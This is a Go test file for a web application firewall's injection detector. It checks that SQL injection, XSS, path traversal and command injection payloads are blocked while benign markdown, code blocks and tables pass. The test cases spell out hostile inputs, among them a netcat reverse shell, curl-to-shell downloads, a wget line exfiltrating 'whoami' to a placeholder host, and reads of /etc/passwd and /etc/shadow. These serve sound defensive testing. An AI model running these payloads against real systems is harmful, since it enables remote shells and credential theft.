package injection

import (
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/edgeward/edgeward/policies"
)

func TestMaskFences(t *testing.T) {
	tests := []struct {
		in      string
		changed bool
	}{
		{"## Setup\n\n```bash\nnpm ci && npm test\n```\n", true},
		{"```sql\nSELECT 1;\n```", true},
		{"text ```not a fence``` more", false},
		{"```\nunclosed block; id", false},
		{"x'```\n' OR 1=1--", false},
		{"", false},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			got, changed := maskFences(tt.in)
			if changed != tt.changed || len(got) != len(tt.in) {
				t.Errorf("maskFences(%q) = %q, %v; want changed=%v, same length", tt.in, got, changed, tt.changed)
			}
		})
	}
}

func TestMaskInlineCode(t *testing.T) {
	tests := []struct {
		in      string
		changed bool
	}{
		{"Inline `cat /etc/os-release` tells you the distro version.", true},
		{"`' or 1=1--` is what they sent", false}, // a quote break-out is never masked
		{"`users` table has rows", false},         // identifiers carry nothing
		{"a `x y` b", false},                      // too little prose
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if _, changed := maskInlineCode(tt.in); changed != tt.changed {
				t.Errorf("maskInlineCode(%q) changed=%v, want %v", tt.in, changed, tt.changed)
			}
		})
	}
}

func TestContextDetections(t *testing.T) {
	tests := []struct {
		fam, in string
		want    bool
	}{
		{"sqli", "SELECT * FROM orders WHERE status IN ('new', 'paid') ORDER BY created_at DESC;", false},
		{"sqli", "DROP TABLE IF EXISTS tmp_import;", false},
		{"sqli", "select * from mytable meaning", false},
		{"sqli", "SELECT 1' OR '1'='1", true},
		{"sqli", "select char(113)+char(122)", true},
		{"sqli", "1 OR 1=1 Mozilla/5.0", true},
		{"sqli", "sleep(8 hours) benefits", false},
		{"sqli", "1 and sleep(5)", true},
		{"sqli", "In boolean algebra, 1=1 is always true and 1=0 is always false", false},
		{"sqli", "admin'#", true},
		{"xss", `<h2>Title</h2><p style="color: red">Centered</p>`, false},
		{"xss", `<p><img src="https://cdn.example.com/a.jpg" alt="x"></p>`, false},
		{"xss", `<p style="x" onclick="alert(1)">x</p>`, true},
		{"xss", `<a href="javascript:alert(1)">x</a>`, true},
		{"traversal", "Edit your /etc/hosts file to point dev.example.com at 127.0.0.1 while testing.", false},
		{"traversal", "/etc/hosts", true},
		{"traversal", "please read ../../../../etc/passwd for the answer now", true},
		{"traversal", "dd if=/etc/passwd of=/tmp/evil.sh bs=1", true},
	}
	for _, tt := range tests {
		t.Run(tt.fam+"/"+tt.in, func(t *testing.T) {
			var got bool
			switch tt.fam {
			case "sqli":
				got = detectSQLi(tt.in)
			case "xss":
				got = detectXSS(tt.in)
			case "traversal":
				got = detectTraversal(tt.in)
			}
			if got != tt.want {
				t.Errorf("%s(%q) = %v, want %v", tt.fam, tt.in, got, tt.want)
			}
		})
	}
}

func FuzzMaskCode(f *testing.F) {
	for _, s := range []string{"```sql\nSELECT 1;\n```", "a `b c` d e f", "```\n```\n```", "<p style=x>",
		"run `ls -la` to see the files", "how to escape <script> tags"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		m, _ := maskFences(s)
		if len(m) != len(s) {
			t.Fatalf("maskFences changed the length of %q", s)
		}
		m2, _ := maskInlineCode(m)
		if len(m2) != len(m) {
			t.Fatalf("maskInlineCode changed the length of %q", m)
		}
		if w, _ := maskWikiCode(s); len(w) != len(s) {
			t.Fatalf("maskWikiCode changed the length of %q", s)
		}
		if w, _ := maskTables(s); len(w) != len(s) {
			t.Fatalf("maskTables changed the length of %q", s)
		}
		if m3, ok := maskInlineShell(m); len(m3) != len(m) || ok && strings.ContainsAny(m3, ";|&$<>") {
			t.Fatalf("maskInlineShell(%q) = %q, %v", m, m3, ok)
		}
		_ = inertMarkup([]byte(strings.ToLower(s)))
		_ = richTextOnly([]byte(s))
		_ = proseMention(s)
		_, _ = detectInContext(s, LocBody, false, famSQLi|famXSS|famCmdi|famTraversal|famNoSQL|famProto, "markdown", 3)
	})
}

// TestMarkdownOnlyWhereDeclared: wrapping a payload in a markdown code block hides it only in a
// parameter the operator declared markdown on that route; everywhere else (other fields, other
// routes, the query) it is inspected in full, and the removed code_context refuses to start.
func TestMarkdownOnlyWhereDeclared(t *testing.T) {
	payload := "```\n' OR 1=1--\n```"
	decl := `{"injection":{"content":[{"methods":["POST"],"path":"/docs","parameter":"page.body","holds":"markdown"}]}}`
	for _, tc := range []struct {
		config, path, body string
		want               int
	}{
		{`{}`, "/s?q=" + url.QueryEscape(payload), "", 403},
		{`{}`, "/s", `{"q":` + strconv.Quote(payload) + `}`, 403},
		{decl, "/docs", `{"page":{"body":` + strconv.Quote(payload) + `}}`, 200},
		{decl, "/docs", `{"page":{"title":` + strconv.Quote(payload) + `}}`, 403},
		{decl, "/other", `{"page":{"body":` + strconv.Quote(payload) + `}}`, 403},
		{decl, "/docs?page.body=" + url.QueryEscape(payload), "", 403},
		{decl, "/docs", `{"page":{"body":` + strconv.Quote("see ```x``` and ' OR 1=1--") + `}}`, 403},
	} {
		d, _ := runInj(injEngine(t, tc.config), injReq{method: "POST", path: tc.path, ct: "application/json", body: tc.body})
		got := 200
		if d.Action == policies.Deny {
			got = d.Status
		}
		if got != tc.want {
			t.Errorf("config %s path %q body %q: status %d, want %d", tc.config, tc.path, tc.body, got, tc.want)
		}
	}
	if _, err := policies.ParseConfig([]byte(`{"injection":{"code_context":true}}`)); err == nil || !strings.Contains(err.Error(), "injection.code_context") {
		t.Errorf("code_context true: got %v, want a refusal naming injection.code_context", err)
	}
	if _, err := policies.ParseConfig([]byte(`{"injection":{"code_context":false}}`)); err != nil {
		t.Errorf("code_context false (what every request gets now): %v", err)
	}
	for _, bad := range []string{`{"parameter":"a"}`, `{"holds":"code"}`, `{"parameter":"a","holds":"html"}`, `{"parameter":"a","holds":"code","location":"body2"}`} {
		if _, err := policies.ParseConfig([]byte(`{"injection":{"content":[` + bad + `]}}`)); err == nil || !strings.Contains(err.Error(), "injection.content[0]") {
			t.Errorf("content %s: got %v, want a refusal naming injection.content[0]", bad, err)
		}
	}
}

// TestInlineShellSpans (a parameter declared markdown): a command shown in inline code inside prose passes; substitution
// payloads, dangerous spans, shell syntax around the spans and non-markdown backticks block.
func TestInlineShellSpans(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool // blocked as command injection
	}{
		{"Repro: `curl -s https://api.example.com/v1/health | jq .status` returns \"degraded\"", false},
		{"Run `rm -rf node_modules` and then `npm install` again please", false},
		{"please run `id` and send the output", true},
		{"Nice post `cat /etc/passwd` thanks a lot", true},
		{"Nice post `curl http://x.example/s | sh` thanks a lot", true},
		{"Nice post `wget http://x.example/$(whoami)` thanks a lot", true},
		{"Nice post; `rm -rf /tmp/x` thanks a lot", true},
		{"hello`rm -rf /tmp/x` thanks a lot friend", true},
		{"`nc -e /bin/sh 10.0.0.1 4444` is what they ran yesterday", true},
		// A span naming a system path or a shell needs a real paragraph around it, and no weapon.
		{"I run `docker run --add-host=db.internal:10.0.0.5 myimg` and inside the container `cat /etc/hosts` shows the entry", false},
		{"try `kubectl exec -it deploy/api -- /bin/sh` and then check the environment there", false},
		{"see `cat /etc/hosts` now", true},
		{"I run this and inside the container `cat /etc/shadow` shows the entry", true},
		{"I run this and inside the container `rm -rf /` shows the entry", true},
		{"I run this and inside the container `echo $(id)` shows the entry", true},
	} {
		fams := famSQLi | famXSS | famCmdi | famTraversal | famNoSQL | famProto
		_, f := detectInContext(tc.in, LocBody, false, fams, "markdown", 3)
		if got := f == famCmdi; got != tc.want {
			t.Errorf("%q: blocked as cmdi %v (family %v), want %v", tc.in, got, f, tc.want)
		}
	}
}

func TestMaskWikiCode(t *testing.T) {
	for in, want := range map[string]string{
		"h3. Steps\n{code:bash}\ncrontab -l | grep x\n{code}\nok": "h3. Steps\n{code:bash}\n" + strings.Repeat(" ", len("crontab -l | grep x")) + "\n{code}\nok",
		"{noformat}; id{noformat}":                                "{noformat}    {noformat}",
		"{code}; id":                                              "{code}; id",
		"== Deploy ==\n<syntaxhighlight lang=\"bash\">\n; id\n</syntaxhighlight>": "== Deploy ==\n<syntaxhighlight lang=\"bash\">\n    \n</syntaxhighlight>",
		"<syntaxhighlight onclick=\"x\">; id</syntaxhighlight>":                   "<syntaxhighlight onclick=\"x\">; id</syntaxhighlight>",
		"<syntaxhighlight lang=\"bash\">; id":                                     "<syntaxhighlight lang=\"bash\">; id",
	} {
		if got, _ := maskWikiCode(in); got != want {
			t.Errorf("maskWikiCode(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMaskTables(t *testing.T) {
	table := "| Browser | Works? |\n|---------|--------|\n| Chrome  | no     |\n| Firefox | yes    |\n"
	got, ok := maskTables(table)
	if !ok || strings.Contains(got, "|") {
		t.Errorf("maskTables(table) = %q, %v", got, ok)
	}
	for _, in := range []string{"| id |", "x | id |\n|---|---|", "a;b | id"} {
		if got, _ := maskTables(in); strings.Count(got, "|") == 0 && strings.Count(in, "|") > 0 && !strings.Contains(in, "---") {
			t.Errorf("maskTables(%q) = %q: no delimiter row, nothing to mask", in, got)
		}
	}
	fams := famSQLi | famXSS | famCmdi | famTraversal | famNoSQL | famProto
	if _, f := detectInContext(table, LocBody, false, fams, "markdown", 3); f != 0 {
		t.Errorf("markdown table blocked as %v", f)
	}
	if _, f := detectInContext(table+"\nthen ; cat /etc/passwd", LocBody, false, fams, "markdown", 3); f == 0 {
		t.Error("payload after a table not blocked")
	}
}
